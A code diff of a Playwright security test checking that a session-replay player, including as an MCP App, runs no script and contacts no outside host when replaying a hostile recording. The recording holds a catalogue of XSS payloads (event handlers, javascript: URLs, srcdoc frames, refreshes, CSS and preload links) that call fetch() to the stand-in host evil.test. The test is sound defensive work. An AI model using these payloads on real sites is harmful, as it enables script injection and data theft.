@@ -7,10 +7,12 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { BrowserContext, Page } from 'playwright-core';
 import { LoopbackWatch } from '../src/watch/index.js';
 import { startHarness, type Harness } from './harness.js';
+import { openAppHost } from './support/app-host.js';
 import { dom, type Node } from './support/rrweb-dom.js';
 
 /**
- * The watch page against a recording its visitor shaped (issue 43's link, attacked): scripts,
+ * The watch page, and the same player as an MCP App (test/support/app-host.ts), against a
+ * recording its visitor shaped (issue 43's link, attacked): scripts,
  * handlers, javascript: URLs, frames, refreshes, forms, preloads, CSS and plugins pointing outside,
  * in the first snapshot and again in a mutation later. Chromium resolves the recording's outside
  * host (evil.test and its subdomains) to a trap listener of the test's, so any connection to it (a request,
@@ -23,43 +25,44 @@ if (!hasChromium) console.warn(`attack4 watch tests skipped: no Chromium at ${CH
 
 const PROJECT = '1';
 const T0 = Date.UTC(2026, 10, 1, 9);
-const OUT = 'http://evil.test';
 /** Run where it could: marks the watch page (the replay frame's parent, or its top). */
-const PWN = (tag: string) => `try{parent.pwned=(parent.pwned||[]).concat('${tag}')}catch(e){};try{top.document.title='PWNED ${tag}'}catch(e){};fetch('${OUT}/ran-${tag}')`;
+const pwnAt = (tag: string, out: string) => `try{parent.pwned=(parent.pwned||[]).concat('${tag}')}catch(e){};try{top.document.title='PWNED ${tag}'}catch(e){};fetch('${out}/ran-${tag}')`;
 
 /** Every trap the recording sets; `tag` tells the first snapshot's from the mutation's. */
-function hostileBody(el: ReturnType<typeof dom>['el'], tag: string): Node[] {
+function hostileBody(el: ReturnType<typeof dom>['el'], tag: string, out: string): Node[] {
+  const host = new URL(out).host;
+  const PWN = (what: string) => pwnAt(what, out);
   return [
     el('p', {}, `Hostile ${tag}`),
     el('script', {}, PWN(`script-${tag}`)),
-    el('script', { src: `${OUT}/script-${tag}.js` }),
+    el('script', { src: `${out}/script-${tag}.js` }),
     el('img', { src: 'x:', onerror: PWN(`onerror-${tag}`) }),
-    el('img', { src: `${OUT}/img-${tag}.png`, srcset: `${OUT}/srcset-${tag}.png 2x` }),
+    el('img', { src: `${out}/img-${tag}.png`, srcset: `${out}/srcset-${tag}.png 2x` }),
     el('a', { href: `javascript:${PWN(`href-${tag}`)}`, id: `js-${tag}` }, 'js link'),
-    el('a', { href: `${OUT}/top-${tag}`, target: '_top', ping: `${OUT}/ping-${tag}`, style: 'display:block;width:100%;height:200px' }, 'top link'),
-    el('iframe', { srcdoc: `<script>${PWN(`srcdoc-${tag}`)}</script><img src="${OUT}/srcdoc-${tag}.png">` }),
-    el('iframe', { src: `${OUT}/frame-${tag}` }),
+    el('a', { href: `${out}/top-${tag}`, target: '_top', ping: `${out}/ping-${tag}`, style: 'display:block;width:100%;height:200px' }, 'top link'),
+    el('iframe', { srcdoc: `<script>${PWN(`srcdoc-${tag}`)}</script><img src="${out}/srcdoc-${tag}.png">` }),
+    el('iframe', { src: `${out}/frame-${tag}` }),
     el('iframe', { src: `javascript:${PWN(`frame-js-${tag}`)}` }),
-    el('form', { action: `${OUT}/form-${tag}`, method: 'post', id: `form-${tag}` }, el('input', { name: 'q', autofocus: '', onfocus: PWN(`onfocus-${tag}`) })),
-    el('object', { data: `${OUT}/object-${tag}` }),
-    el('embed', { src: `${OUT}/embed-${tag}` }),
-    el('video', { poster: `${OUT}/poster-${tag}.png`, src: `${OUT}/video-${tag}.mp4`, autoplay: '' }),
-    el('audio', { src: `${OUT}/audio-${tag}.mp3`, autoplay: '' }),
-    el('input', { type: 'image', src: `${OUT}/input-${tag}.png` }),
-    el('div', { style: `background:url(${OUT}/inline-${tag}.png);width:10px;height:10px` }),
-    el('svg', { onload: PWN(`svg-${tag}`) }, el('image', { href: `${OUT}/svg-${tag}.png` })),
+    el('form', { action: `${out}/form-${tag}`, method: 'post', id: `form-${tag}` }, el('input', { name: 'q', autofocus: '', onfocus: PWN(`onfocus-${tag}`) })),
+    el('object', { data: `${out}/object-${tag}` }),
+    el('embed', { src: `${out}/embed-${tag}` }),
+    el('video', { poster: `${out}/poster-${tag}.png`, src: `${out}/video-${tag}.mp4`, autoplay: '' }),
+    el('audio', { src: `${out}/audio-${tag}.mp3`, autoplay: '' }),
+    el('input', { type: 'image', src: `${out}/input-${tag}.png` }),
+    el('div', { style: `background:url(${out}/inline-${tag}.png);width:10px;height:10px` }),
+    el('svg', { onload: PWN(`svg-${tag}`) }, el('image', { href: `${out}/svg-${tag}.png` })),
     el('details', { open: '', ontoggle: PWN(`toggle-${tag}`) }, el('summary', {}, 'd')),
-    el('style', {}, `@import url(${OUT}/import-${tag}.css); body{background-image:url(${OUT}/bg-${tag}.png)} @font-face{font-family:f${tag};src:url(${OUT}/font-${tag}.woff)} p{font-family:f${tag};cursor:url(${OUT}/cursor-${tag}.png),auto}`),
-    el('link', { rel: 'stylesheet', href: `${OUT}/sheet-${tag}.css` }),
-    el('link', { rel: 'prefetch', href: `${OUT}/prefetch-${tag}` }),
-    el('link', { rel: 'preload', as: 'image', href: `${OUT}/preload-${tag}.png` }),
-    el('link', { rel: 'preload', as: 'fetch', href: `${OUT}/preload-fetch-${tag}` }),
-    el('link', { rel: 'modulepreload', href: `${OUT}/module-${tag}.js` }),
-    el('link', { rel: 'preconnect', href: `http://preconnect-${tag}.evil.test` }),
-    el('link', { rel: 'dns-prefetch', href: `http://dns-${tag}.evil.test` }),
-    el('link', { rel: 'manifest', href: `${OUT}/manifest-${tag}.json` }),
-    el('meta', { 'http-equiv': 'refresh', content: `1;url=${OUT}/refresh-${tag}` }),
-    el('base', { href: `${OUT}/base-${tag}/` }),
+    el('style', {}, `@import url(${out}/import-${tag}.css); body{background-image:url(${out}/bg-${tag}.png)} @font-face{font-family:f${tag};src:url(${out}/font-${tag}.woff)} p{font-family:f${tag};cursor:url(${out}/cursor-${tag}.png),auto}`),
+    el('link', { rel: 'stylesheet', href: `${out}/sheet-${tag}.css` }),
+    el('link', { rel: 'prefetch', href: `${out}/prefetch-${tag}` }),
+    el('link', { rel: 'preload', as: 'image', href: `${out}/preload-${tag}.png` }),
+    el('link', { rel: 'preload', as: 'fetch', href: `${out}/preload-fetch-${tag}` }),
+    el('link', { rel: 'modulepreload', href: `${out}/module-${tag}.js` }),
+    el('link', { rel: 'preconnect', href: `http://preconnect-${tag}.${host}` }),
+    el('link', { rel: 'dns-prefetch', href: `http://dns-${tag}.${host}` }),
+    el('link', { rel: 'manifest', href: `${out}/manifest-${tag}.json` }),
+    el('meta', { 'http-equiv': 'refresh', content: `1;url=${out}/refresh-${tag}` }),
+    el('base', { href: `${out}/base-${tag}/` }),
     el('img', { src: `relative-${tag}.png` }),
   ];
 }
@@ -70,11 +73,12 @@ function flat(node: Node, parentId: number): Array<{ parentId: number; nextId: n
 }
 
 /** A full snapshot of every trap, then (1 s on) a mutation adding them again and re-pointing a frame. */
-function hostileRecording(): unknown[] {
+function hostileRecording(out: string): unknown[] {
+  const PWN = (what: string) => pwnAt(what, out);
   const { el, page } = dom();
-  const snapshot = page(...hostileBody(el, 'snap'));
+  const snapshot = page(...hostileBody(el, 'snap', out));
   const body = snapshot.childNodes![0]!.childNodes![1]!;
-  const later = hostileBody(el, 'mut');
+  const later = hostileBody(el, 'mut', out);
   const frame = later.find((n) => n.tagName === 'iframe' && n.attributes?.src)!;
   const huge = 'A'.repeat(2_000_000);
   return [
@@ -85,7 +89,7 @@ function hostileRecording(): unknown[] {
     {
       type: 3,
       timestamp: T0 + 1500,
-      data: { source: 0, texts: [], removes: [], adds: [], attributes: [{ id: frame.id, attributes: { src: `${OUT}/frame-resrc`, srcdoc: `<script>${PWN('srcdoc-attr')}</script>`, title: huge } }, { id: body.id, attributes: { onload: PWN('body-attr'), background: `${OUT}/body-bg.png` } }] },
+      data: { source: 0, texts: [], removes: [], adds: [], attributes: [{ id: frame.id, attributes: { src: `${out}/frame-resrc`, srcdoc: `<script>${PWN('srcdoc-attr')}</script>`, title: huge } }, { id: body.id, attributes: { onload: PWN('body-attr'), background: `${out}/body-bg.png` } }] },
     },
   ];
 }
@@ -111,8 +115,12 @@ describe.skipIf(!hasChromium)('the watch page against a hostile recording (headl
   let context: BrowserContext;
   let profile: string;
   let outside: Awaited<ReturnType<typeof trap>>;
+  let hostScript: string;
 
   beforeAll(async () => {
+    const { build } = await import('esbuild');
+    const bundled = await build({ entryPoints: [new URL('./browser/host.js', import.meta.url).pathname], bundle: true, format: 'esm', platform: 'browser', write: false, logLevel: 'error' });
+    hostScript = bundled.outputFiles[0]!.text;
     outside = await trap();
     h = await startHarness({ watch: new LoopbackWatch() });
     profile = await mkdtemp(join(tmpdir(), 'attack4-chromium-'));
@@ -146,7 +154,7 @@ describe.skipIf(!hasChromium)('the watch page against a hostile recording (headl
   }
 
   it('runs no recorded script, reaches no other host, and stays on its page through the replay', async () => {
-    serve('hostile-dom', hostileRecording());
+    serve('hostile-dom', hostileRecording('http://watch.evil.test'));
     const url = await watchUrl('hostile-dom');
     const page: Page = await context.newPage();
     const requests: string[] = [];
@@ -186,4 +194,41 @@ describe.skipIf(!hasChromium)('the watch page against a hostile recording (headl
       await page.close();
     }
   });
+
+  // The same recording as an MCP App, in a host that applies the resource's CSP and in one that
+  // ignores it (the player's own meta policy is then all there is).
+  for (const ignoreCsp of [false, true]) {
+    it(`as an MCP App in a host that ${ignoreCsp ? 'ignores' : 'applies'} its declared CSP: runs no recorded script, reaches no other host, leaves the host page where it is`, async () => {
+      // A host of its own: Chromium keeps connections it opened for another test.
+      serve(`hostile-dom-app-${ignoreCsp}`, hostileRecording(`http://${ignoreCsp ? 'lax' : 'strict'}.evil.test`));
+      const before = outside.connections;
+      const popups: string[] = [];
+      const onPage = (p: Page) => popups.push(p.url());
+      const host = await openAppHost({ client: h.client, context, hostScript }, { project_id: PROJECT, id: `hostile-dom-app-${ignoreCsp}` }, 'light', { ignoreCsp });
+      // Pages opened from here on (the host's own is open): a recorded link's popup.
+      context.on('page', onPage);
+      try {
+        const hostUrl = host.page.url();
+        const proxy = await (await host.page.waitForSelector('#sandbox')).contentFrame();
+        const player = await (await proxy!.waitForSelector('#view')).contentFrame();
+        await player!.waitForSelector('#player[data-ready="true"] .replayer-wrapper iframe', { timeout: 30_000 });
+        const replayed = (script: string) => player!.evaluate(`(() => { const document = window.document.querySelector('.replayer-wrapper iframe').contentDocument; ${script} })()`);
+        await expect.poll(() => replayed('return document.body?.textContent ?? ""'), { timeout: 15_000 }).toContain('Hostile snap');
+        if ((await player!.getAttribute('#play', 'aria-pressed')) !== 'true') await player!.click('#play');
+        await expect.poll(() => replayed('return document.body?.textContent ?? ""'), { timeout: 15_000 }).toContain('Hostile mut');
+        await host.page.waitForTimeout(3_000);
+
+        expect(host.page.url()).toBe(hostUrl);
+        expect(await player!.evaluate('window.pwned ?? null')).toBeNull();
+        expect(await host.page.evaluate('window.pwned ?? null')).toBeNull();
+        expect(await host.page.title()).not.toMatch(/PWNED/);
+        expect(popups).toEqual([]);
+        expect({ connections: outside.connections - before }).toEqual({ connections: 0 });
+        expect(host.refused.length).toBeGreaterThan(0);
+      } finally {
+        context.off('page', onPage);
+        await host.close();
+      }
+    });
+  }
 });
